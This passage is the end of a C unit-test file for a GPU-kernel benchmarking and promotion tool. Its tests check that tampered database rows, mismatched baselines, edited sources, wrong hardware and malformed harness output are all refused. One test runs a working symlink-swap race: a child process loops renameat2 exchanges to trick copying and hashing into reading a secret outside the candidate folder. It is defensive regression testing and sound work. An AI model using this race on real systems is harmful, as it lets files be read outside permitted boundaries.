    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM runs r JOIN correctness k ON k.run_id = r.id WHERE r.status = 'failed' AND k.passed = 0"), 1);
    json_t *doc = NULL;
    sb_error err;
    assert_int_equal(promote(c, run, &doc, &err), 1);
}

static void test_promotion_rechecks_the_database(void **state)
{
    ctx *c = *state;
    char run[1024];
    json_t *report = NULL;
    assert_int_equal(benched_run(c, "tampered", NULL, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1, run, sizeof run, &report),
                     SB_FORGE_PASSED);
    long long cid = json_integer_value(json_object_get(json_array_get(json_object_get(report, "cases"), 0), "candidate_run_id"));
    json_decref(report);
    char sql[256];
    snprintf(sql, sizeof sql, "UPDATE metrics SET median_ms = 0.059 WHERE run_id = %lld", cid);
    db_exec(c->db, sql);
    json_t *doc = NULL;
    sb_error err;
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_string_equal(err.msg, "M=4096,N=4096: stored medians give a speedup of 1.017x (baseline 0.06 ms / candidate 0.059 ms), below 1.10x");
    snprintf(sql, sizeof sql, "UPDATE correctness SET passed = 0 WHERE run_id = %lld", cid);
    db_exec(c->db, sql);
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_non_null(strstr(err.msg, "has status passed and correctness failed"));
    snprintf(sql, sizeof sql, "DELETE FROM runs WHERE id = %lld", cid);
    db_exec(c->db, sql);
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_non_null(strstr(err.msg, "(candidate) is not in the database"));

    /* Pairing a candidate with another session's baseline. */
    char a[1024], b[1024];
    assert_int_equal(benched_run(c, "pair-a", NULL, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1, a, sizeof a, &report),
                     SB_FORGE_PASSED);
    json_decref(report);
    assert_int_equal(benched_run(c, "pair-b", NULL, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1, b, sizeof b, &report),
                     SB_FORGE_PASSED);
    long long other_base = json_integer_value(json_object_get(json_array_get(json_object_get(report, "cases"), 0), "baseline_run_id"));
    json_decref(report);
    char bpath[1100];
    snprintf(bpath, sizeof bpath, "%s/bench.json", a);
    json_t *bj = NULL;
    check_ok(sb_json_load_file(bpath, &bj, &err), &err);
    json_object_set_new(json_array_get(json_object_get(bj, "cases"), 0), "baseline_run_id", json_integer(other_base));
    check_ok(sb_json_write_file(bpath, bj, &err), &err);
    json_decref(bj);
    assert_int_equal(promote(c, a, &doc, &err), 1);
    assert_non_null(strstr(err.msg, "is rmsnorm/bf16/eager-reference of forge run 'pair-b', not eager-reference of this run"));

    /* Sources edited after verification. */
    char kpath[1100];
    snprintf(kpath, sizeof kpath, "%s/candidate/kernel.cu", b);
    FILE *f = fopen(kpath, "a");
    assert_non_null(f);
    fputs("// edited after verify\n", f);
    fclose(f);
    assert_int_equal(promote(c, b, &doc, &err), 1);
    assert_non_null(strstr(err.msg, "candidate changed since it was verified (kernel.cu)"));
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM forge_kernels"), 0);
}

static void test_card_must_be_the_task_sku(void **state)
{
    ctx *c = *state;
    char run[1024];
    json_t *report = NULL;
    assert_int_equal(benched_run(c, "wrongcard", NULL, "NVIDIA A100-SXM4-80GB", 0.020, 0.060, 1, run, sizeof run, &report),
                     SB_FORGE_REFUSED);
    assert_string_equal(json_string_value(json_array_get(json_object_get(report, "reasons"), 0)),
                        "benchmarked on NVIDIA A100-SXM4-80GB (SKU a100-sxm4-80gb), but the task targets h100-sxm5-80gb");
    json_decref(report);
}

static void test_malformed_harness_output_is_refused(void **state)
{
    ctx *c = *state;
    char run[1024], raw[1100];
    make_run(c, "malformed", run, sizeof run);
    install_candidate(run, NULL);
    craft_verify(run);
    snprintf(raw, sizeof raw, "%s/crafted_raw.json", run);
    craft_raw(raw, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1);
    /* Two repeats fewer than bench.json asks for. */
    json_t *doc = NULL;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_json_load_file(raw, &doc, &err), &err);
    json_t *samples = json_object_get(json_array_get(json_object_get(json_array_get(json_object_get(doc, "cases"), 0), "providers"), 0), "samples");
    json_array_remove(samples, 0);
    check_ok(sb_json_write_file(raw, doc, &err), &err);
    json_decref(doc);
    json_t *report = NULL;
    assert_int_equal(bench_with(c, run, raw, &report), SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_array_get(json_object_get(report, "reasons"), 0)),
                           "/cases/0: samples must be 5 repeats"));
    json_decref(report);
    /* Not JSON at all. */
    FILE *f = fopen(raw, "w");
    assert_non_null(f);
    fputs("{\"harness\": ", f);
    fclose(f);
    assert_int_equal(bench_with(c, run, raw, &report), SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_array_get(json_object_get(report, "reasons"), 0)), "crafted_raw.json"));
    json_decref(report);
    assert_int_not_equal(access(c->db, F_OK), 0); /* nothing stored, no database made */
}

static void test_bench_needs_verify(void **state)
{
    ctx *c = *state;
    char run[1024];
    make_run(c, "unverified", run, sizeof run);
    install_candidate(run, NULL);
    json_t *report = NULL;
    int v = bench_with(c, run, "/nonexistent.json", &report);
    assert_int_equal(v, SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_array_get(json_object_get(report, "reasons"), 0)),
                           "not verified: run 'solbook forge verify' first"));
    json_decref(report);
}

/* Whoever can write a candidate folder can swap a folder in it for a link
 * to a folder outside while forge copies or hashes it (forge runs
 * unconfined then): a child exchanges cand/sub with cand/link (a link to a
 * folder holding a secret) as fast as it can while the copy and the hash
 * run again and again. The walk once listed sub as a folder and then
 * read through the link: 7 of 400 copies held the secret. No copy may
 * hold it, and no hash may name a file of it. */
static void test_copy_follows_no_swapped_folder(void **state)
{
    ctx *c = *state;
    char cand[600], sub[700], link_path[700], outside[600], path[800], dst[600];
    snprintf(cand, sizeof cand, "%s/cand", c->dir);
    snprintf(sub, sizeof sub, "%s/sub", cand);
    snprintf(link_path, sizeof link_path, "%s/link", cand);
    snprintf(outside, sizeof outside, "%s/outside", c->dir);
    snprintf(dst, sizeof dst, "%s/copy", c->dir);
    assert_int_equal(mkdir(cand, 0755), 0);
    assert_int_equal(mkdir(sub, 0755), 0);
    assert_int_equal(mkdir(outside, 0755), 0);
    snprintf(path, sizeof path, "%s/a.cu", sub);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("int a;\n", f);
    fclose(f);
    snprintf(path, sizeof path, "%s/secret.cu", outside);
    f = fopen(path, "w");
    assert_non_null(f);
    fputs("SECRET_OUTSIDE_BYTES\n", f);
    fclose(f);
    assert_int_equal(symlink(outside, link_path), 0);
    pid_t kid = fork();
    assert_true(kid >= 0);
    if (kid == 0) {
        for (;;)
            renameat2(AT_FDCWD, sub, AT_FDCWD, link_path, RENAME_EXCHANGE);
    }
    int copies = 0, hashes = 0, leaked = 0;
    time_t end = time(NULL) + 4;
    for (int i = 0; i < 2000 && time(NULL) < end && !leaked; i++) {
        sb_error err;
        sb_error_clear(&err);
        sb_forge_remove_tree(dst, &err);
        if (sb_forge_copy_tree(cand, dst, &err) == SB_OK) {
            copies++;
            snprintf(path, sizeof path, "%s/sub/secret.cu", dst);
            struct stat st;
            if (stat(path, &st) == 0)
                leaked = 1;
        }
        json_t *h = NULL;
        if (sb_forge_hash_tree(cand, &h, &err) == SB_OK) {
            hashes++;
            if (json_object_get(h, "sub/secret.cu"))
                leaked = 2;
            json_decref(h);
        }
    }
    kill(kid, SIGKILL);
    waitpid(kid, NULL, 0);
    printf("%d copies and %d hashes whole while the folder was swapped\n", copies, hashes);
    if (leaked)
        fail_msg("a %s read the folder outside through the swapped link", leaked == 1 ? "copy" : "hash");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_task_writes_a_valid_spec, setup, teardown),
        cmocka_unit_test_setup_teardown(test_prompt_has_every_section_and_the_right_playbooks, setup, teardown),
        cmocka_unit_test_setup_teardown(test_playbook_front_matter_errors, setup, teardown),
        cmocka_unit_test_setup_teardown(test_verify_refuses_hostile_candidates, setup, teardown),
        cmocka_unit_test_setup_teardown(test_task_reference_is_fixed, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bench_then_promote, setup, teardown),
        cmocka_unit_test_setup_teardown(test_slower_candidate_is_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_wrong_answer_is_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_promotion_rechecks_the_database, setup, teardown),
        cmocka_unit_test_setup_teardown(test_card_must_be_the_task_sku, setup, teardown),
        cmocka_unit_test_setup_teardown(test_malformed_harness_output_is_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bench_needs_verify, setup, teardown),
        cmocka_unit_test_setup_teardown(test_copy_follows_no_swapped_folder, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
